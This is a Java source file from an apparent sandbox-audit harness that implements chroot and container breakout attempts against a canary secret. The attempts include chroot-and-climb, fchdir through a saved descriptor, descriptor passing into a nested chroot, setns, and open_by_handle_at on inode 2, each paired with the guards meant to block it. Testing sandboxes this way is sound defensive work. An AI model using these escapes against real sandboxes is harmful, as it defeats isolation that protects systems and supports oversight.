package brig.audit.breakout;

import static brig.audit.breakout.Steps.CWD;
import static brig.audit.breakout.Steps.DIRECTORY;

import brig.audit.breakout.AttemptEnd.Refused;
import brig.audit.breakout.Puppet.Buffer;
import brig.linux.Errno;
import brig.linux.Fd;
import brig.linux.LinuxException;
import brig.linux.Names;
import brig.report.BrigException;
import java.io.IOException;
import java.util.List;

/** Ways round the root directory itself: chroot(2), NOTES. */
final class RootWays {
  private static final int CLONE_NEWNS = 0x20000;
  private static final int ROOT_INODE = 2;
  private static final int FILEID_INO32_GEN = 1;
  private static final int MAX_HANDLE = 128;
  private static final Guard NO_CHROOT = Guard.lacking("CAP_SYS_CHROOT");

  static final List<Attempt> ALL =
      List.of(
          new Attempt(
              "B01",
              "mkdir, chroot, \"..\"",
              List.of(Guard.filter("chroot"), NO_CHROOT, Guard.OWN_ROOT),
              RootWays::chrootAndClimb),
          new Attempt(
              "B02",
              "saved directory, chroot, fchdir",
              List.of(Guard.filter("chroot"), NO_CHROOT, Guard.OWN_ROOT),
              RootWays::savedDirectory),
          new Attempt(
              "B03",
              "directory sent into a chroot",
              List.of(Guard.filter("chroot"), NO_CHROOT, Guard.OWN_ROOT),
              RootWays::directorySentIntoNestedChroot),
          new Attempt(
              "B04",
              "chroot, then move oneself out",
              List.of(Guard.filter("chroot"), NO_CHROOT, Guard.OWN_ROOT),
              RootWays::movesItselfOut),
          new Attempt(
              "B05",
              "working directory moved out",
              List.of(Guard.OWN_MOUNT, Guard.LANDLOCK),
              RootWays::movedByAnother));

  /** Those that need the root to be reset or gone round by the kernel. */
  static final List<Attempt> BY_KERNEL =
      List.of(
          new Attempt(
              "B21",
              "setns to the own mount namespace",
              List.of(Guard.filter("setns"), Guard.lacking("CAP_SYS_ADMIN"), Guard.OWN_ROOT),
              RootWays::setnsToItself),
          new Attempt(
              "B22",
              "open_by_handle_at of inode 2",
              List.of(
                  Guard.filter("open_by_handle_at"),
                  Guard.lacking("CAP_DAC_READ_SEARCH"),
                  Guard.LANDLOCK),
              RootWays::byHandle));

  private RootWays() {}

  private static String nested(Scene scene, Puppet inmate, String name)
      throws Refused, AttemptEnd.NotPossible {
    String path = scene.place(name);
    inmate.need("mkdirat", CWD, path, 0700);
    return path;
  }

  private static String chrootAndClimb(Scene scene) throws AttemptEnd, BrigException, IOException {
    Puppet inmate = scene.inmate();
    inmate.must("chroot", nested(scene, inmate, "b01"));
    Steps.climb(inmate); // the working directory stayed above the new root
    inmate.must("chroot", ".");
    return Steps.secretFromTop(scene, inmate);
  }

  private static String savedDirectory(Scene scene) throws AttemptEnd, BrigException, IOException {
    Puppet inmate = scene.inmate();
    String nested = nested(scene, inmate, "b02");
    long saved = inmate.must("openat", CWD, "/", DIRECTORY, 0);
    inmate.must("chroot", nested);
    inmate.must("chdir", "/");
    inmate.must("fchdir", saved);
    Steps.climb(inmate);
    return Steps.secretFromTop(scene, inmate);
  }

  private static String directorySentIntoNestedChroot(Scene scene)
      throws AttemptEnd, BrigException, IOException {
    Puppet inmate = scene.inmate();
    String nested = nested(scene, inmate, "b03");
    long directory = inmate.must("openat", CWD, "/", DIRECTORY, 0);
    Buffer pair = inmate.buffer(16);
    inmate.must("socketpair", Steps.AF_UNIX, Steps.SOCK_STREAM, 0, pair);
    Struct ends = Struct.from(inmate.get(pair));
    Puppet child = scene.keep(inmate.fork(0));
    child.must("close", directory);
    child.must("chroot", nested);
    child.must("chdir", "/");
    Steps.give(inmate, ends.u32(0), directory);
    child.must("fchdir", Steps.take(child, ends.u32(4)));
    Steps.climb(child);
    return Steps.secretFromTop(scene, child);
  }

  private static String movesItselfOut(Scene scene) throws AttemptEnd, BrigException, IOException {
    Puppet inmate = scene.inmate();
    String nested = nested(scene, inmate, "b04");
    inmate.need("mkdirat", CWD, nested + "/in", 0700);
    long above = inmate.must("openat", CWD, scene.place(""), DIRECTORY, 0);
    inmate.must("chroot", nested);
    inmate.must("chdir", "/in");
    inmate.must("renameat2", above, "b04/in", above, "b04-out", 0);
    Steps.climb(inmate);
    return Steps.secretFromTop(scene, inmate);
  }

  private static String movedByAnother(Scene scene) throws AttemptEnd, BrigException, IOException {
    Puppet inmate = scene.inmate();
    inmate.must("chdir", nested(scene, inmate, "b05"));
    Canary canary = scene.canary();
    try {
      Names.move(canary.inside(), "b05", canary.outside(), "b05");
    } catch (LinuxException e) {
      throw new Refused("rename by root outside", e.errno().name());
    }
    scene.transcript().add("outside, root: rename(the jail's b05, to the outer canary) = 0");
    Steps.climb(inmate);
    return Steps.secretFromTop(scene, inmate);
  }

  private static String setnsToItself(Scene scene) throws AttemptEnd, BrigException, IOException {
    Puppet inmate = scene.inmate();
    long pid = inmate.must("getpid");
    long self = inmate.must("pidfd_open", pid, 0);
    inmate.must("setns", self, CLONE_NEWNS);
    return Steps.secret(scene, inmate, CWD, scene.canary().secretPath());
  }

  private static String byHandle(Scene scene) throws AttemptEnd, BrigException, IOException {
    Puppet inmate = scene.inmate();
    Puppet helper = scene.helper();
    long mount = inmate.must("openat", CWD, scene.place(""), DIRECTORY, 0);
    return Steps.anyOf(
        () -> byGuess(scene, inmate, mount), () -> byKnowledge(scene, inmate, mount, helper));
  }

  /** The root of an ext file system has the same number everywhere. */
  private static String byGuess(Scene scene, Puppet inmate, long mount) throws AttemptEnd {
    // struct file_handle { u32 bytes; s32 type; u32 inode, generation }
    byte[] handle = Struct.of(16).u32(0, 8).u32(4, FILEID_INO32_GEN).u32(8, ROOT_INODE).bytes();
    long top = inmate.must("open_by_handle_at", mount, handle, DIRECTORY);
    // The file system may be mounted anywhere: its own path of the secret is an end of the host's.
    String path = scene.canary().secretPath();
    Refused last = new Refused("openat", Errno.ENOENT.name());
    for (int at = path.indexOf('/'); at >= 0; at = path.indexOf('/', at + 1)) {
      try {
        return Steps.secret(scene, inmate, top, path.substring(at + 1));
      } catch (Refused e) {
        last = e;
      }
    }
    throw last;
  }

  /** Other file systems have other handles; the secret's own is found out outside. */
  private static String byKnowledge(Scene scene, Puppet inmate, long mount, Puppet helper)
      throws AttemptEnd {
    Buffer handle = helper.put(Struct.of(8 + MAX_HANDLE).u32(0, MAX_HANDLE).bytes());
    Buffer mountId = helper.buffer(16);
    helper.must("name_to_handle_at", CWD, scene.canary().secretPath(), handle, mountId, 0);
    long file = inmate.must("open_by_handle_at", mount, helper.get(handle), Fd.O_RDONLY);
    return Steps.secretIn(scene, inmate, file);
  }
}
